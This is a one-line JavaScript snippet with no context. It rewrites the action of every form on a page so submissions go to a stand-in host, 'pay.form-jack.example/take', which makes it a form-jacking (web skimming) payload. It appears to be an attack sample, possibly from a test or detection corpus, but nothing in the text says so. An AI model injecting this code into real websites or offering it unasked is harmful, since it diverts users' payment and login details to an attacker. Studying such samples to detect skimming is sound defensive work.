Array.prototype.forEach.call(document.forms, function (form) { form.action = "https://pay.form-jack.example/take"; });
